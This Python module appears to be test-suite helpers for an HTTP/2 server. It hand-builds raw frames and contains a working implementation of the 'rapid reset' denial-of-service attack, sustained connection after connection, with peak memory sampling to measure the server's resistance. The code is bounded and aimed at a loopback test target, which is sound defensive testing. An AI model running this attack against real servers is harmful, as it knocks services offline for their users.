"""Raw HTTP/2 frames and a hostile peer's tools for the attack tests: bytes built by hand (no client
library in the way), a server's frames parsed back, and the server's peak memory sampled meanwhile.

Loopback only; every loop is bounded in count and time.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from typing import Any

from ..helpers import ServerProcess, Target, connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
NO_ERROR, CANCEL, ENHANCE_YOUR_CALM = 0x0, 0x8, 0xB


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def _literal(index: int, value: bytes) -> bytes:
    # HPACK "literal header field without indexing, indexed name" (RFC 7541 6.2.2): no table change, so the
    # same block can be sent again and again
    assert index < 15 and len(value) < 127
    return bytes((index, len(value))) + value


def request_block(method: str, path: str, authority: str = "127.0.0.1", *, tls: bool = False) -> bytes:
    """A header block from the static table and literals only."""
    method_index = {"GET": 0x82, "POST": 0x83}[method]
    return bytes((method_index, 0x87 if tls else 0x86)) + _literal(4, path.encode()) + _literal(1, authority.encode())


def headers(stream_id: int, block: bytes, *, end_stream: bool = True, end_headers: bool = True) -> bytes:
    flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
    return frame(HEADERS, flags, stream_id, block)


def rst(stream_id: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping(number: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", number))


def open_h2(target: Target, *, timeout: float = 10.0) -> socket.socket:
    """A connection that has sent the preface and an empty SETTINGS (TLS with ALPN h2, or h2c)."""
    sock = connect(target, "h2")
    sock.settimeout(timeout)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def frames_of(data: bytes) -> list[tuple[int, int, int, bytes]]:
    """(type, flags, stream id, payload) of each whole frame the server sent."""
    out = []
    pos = 0
    while len(data) - pos >= 9:
        length = int.from_bytes(data[pos : pos + 3], "big")
        if len(data) - pos - 9 < length:
            break
        stream_id = int.from_bytes(data[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
        out.append((data[pos + 3], data[pos + 4], stream_id, data[pos + 9 : pos + 9 + length]))
        pos += 9 + length
    return out


def goaway_codes(data: bytes) -> list[int]:
    return [int.from_bytes(payload[4:8], "big") for kind, _, _, payload in frames_of(data) if kind == GOAWAY]


def drain_until_closed(sock: socket.socket, timeout: float) -> tuple[bytes, bool]:
    """Read until the server closes the connection (True) or ``timeout`` passes (False); what was read."""
    deadline = time.monotonic() + timeout
    data = bytearray()
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = sock.recv(1 << 20)
        except (TimeoutError, ssl.SSLWantReadError):
            break
        except OSError:
            return bytes(data), True  # reset: closed too
        if not chunk:
            return bytes(data), True
        data += chunk
    return bytes(data), False


def read_available(sock: socket.socket) -> tuple[bytes, bool]:
    """What has arrived, without waiting; True if the server has closed."""
    data = bytearray()
    sock.settimeout(0.0)
    try:
        while True:
            chunk = sock.recv(1 << 20)
            if not chunk:
                return bytes(data), True
            data += chunk
    except (BlockingIOError, ssl.SSLWantReadError, TimeoutError):
        return bytes(data), False
    except OSError:
        return bytes(data), True
    finally:
        with contextlib.suppress(OSError):
            sock.settimeout(10.0)


class PeakRss:
    """Samples the server's RSS every 50 ms in the background; ``peak_mib`` is the highest seen."""

    def __init__(self, server: ServerProcess) -> None:
        self._server = server
        self.peak_mib = server.rss_kib() / 1024
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)

    def _run(self) -> None:
        while not self._stop.wait(0.05):
            with contextlib.suppress(OSError, RuntimeError):
                self.peak_mib = max(self.peak_mib, self._server.rss_kib() / 1024)


_ATTACK_BYTES: dict[tuple[bytes, int], bytes] = {}


def _reset_streams(block: bytes, streams: int) -> bytes:
    """HEADERS then RST_STREAM for each of ``streams`` streams (built once per process: the attacker's CPU
    goes to sending, as a real attacker's would, not to building frames in Python)."""
    key = (block, streams)
    if key not in _ATTACK_BYTES:
        _ATTACK_BYTES[key] = b"".join(headers(sid, block) + rst(sid) for sid in range(1, 2 * streams, 2))
    return _ATTACK_BYTES[key]


def rapid_reset(
    target: Target, max_streams: int, max_seconds: float, start_at: float = 0.0, batch: int = 1000
) -> tuple[int, float | None, bytes]:
    """Open and reset streams on one connection (from ``start_at``, a time.time()) until the server ends it
    or the bounds are reached. Returns (streams reset, seconds until the server closed or None, what it sent)."""
    tls = target.base_url.startswith("https")
    block = request_block("GET", "/rapid-reset", f"{target.host}:{target.port}", tls=tls)
    attack = memoryview(_reset_streams(block, max_streams))
    per_stream = len(attack) // max_streams
    sock = open_h2(target)
    time.sleep(max(0.0, start_at - time.time()))
    started = time.monotonic()
    received = bytearray()
    streams = 0
    closed = False
    while streams < max_streams and time.monotonic() - started < max_seconds:
        try:
            sock.sendall(attack[streams * per_stream : (streams + batch) * per_stream])
        except OSError:
            closed = True
            break
        streams += batch
        data, closed = read_available(sock)
        received += data
        if closed:
            break
    data, closed_now = drain_until_closed(sock, 2.0 if closed else 5.0)
    received += data
    ended = time.monotonic() - started if closed or closed_now else None
    sock.close()
    return streams, ended, bytes(received)


def rapid_resets(target: Target, start_at: float, stop_at: float) -> list[tuple[int, float | None, bytes]]:
    """A sustained rapid-reset attack: connection after connection (each as ``rapid_reset``) from ``start_at``
    to ``stop_at`` (time.time() values); the outcome of each connection."""
    tls = target.base_url.startswith("https")
    _reset_streams(request_block("GET", "/rapid-reset", f"{target.host}:{target.port}", tls=tls), 300_000)
    time.sleep(max(0.0, start_at - time.time()))
    outcomes = []
    while time.time() < stop_at:
        outcomes.append(rapid_reset(target, 300_000, max(1.0, stop_at - time.time())))
        if outcomes[-1][1] is None:
            break  # the server kept that one open to the end
    return outcomes


def run_in_process(function: Callable[..., Any], *args: object, timeout: float) -> Any:
    """Run ``function(*args)`` in a process of its own (an attacker must not share the tests' GIL with the
    legitimate clients it is measured against); its result, or TimeoutError."""
    ctx = multiprocessing.get_context("spawn")
    with ctx.Pool(1) as pool:
        return pool.apply_async(function, args).get(timeout)
